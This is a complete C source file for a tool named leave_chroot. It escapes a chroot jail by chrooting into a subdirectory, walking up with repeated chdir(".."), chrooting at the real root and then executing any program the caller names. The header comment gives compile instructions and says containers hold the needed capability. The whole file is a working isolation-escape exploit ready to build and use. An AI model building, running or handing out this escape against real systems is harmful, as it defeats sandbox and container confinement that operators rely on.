/*
 * Walks out of a chroot: leave_chroot PROGRAM [ARGUMENT...]
 *
 * chroot(2) changes what "/" means and nothing else. Who may call it (CAP_SYS_CHROOT, which containers have) enters a second one below while
 * standing outside of it, and walks up past what was "/". After pivot_root(2) there is nothing above to walk to.
 *
 * Compile: cc -Wall -Wextra -static -o leave_chroot leave_chroot.c        See: chroot(2), pivot_root(2)
 */
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int fail(const char *what)
{
    fprintf(stderr, "leave_chroot: %s: %s\n", what, strerror(errno));
    return 1;
}

int main(int argc, char **argv)
{
    if (argc < 2) {
        fprintf(stderr, "usage: leave_chroot PROGRAM [ARGUMENT...]\n");
        return 2;
    }

    if (mkdir("below", 0700) != 0 && errno != EEXIST)
        return fail("mkdir below");
    if (chroot("below") != 0) /* the working directory stays where it was: above the new root */
        return fail("chroot below");
    for (int step = 0; step < 64; step++) /* at the top, .. leads to itself */
        if (chdir("..") != 0)
            return fail("chdir ..");
    if (chroot(".") != 0)
        return fail("chroot .");

    execvp(argv[1], argv + 1);
    return fail(argv[1]);
}
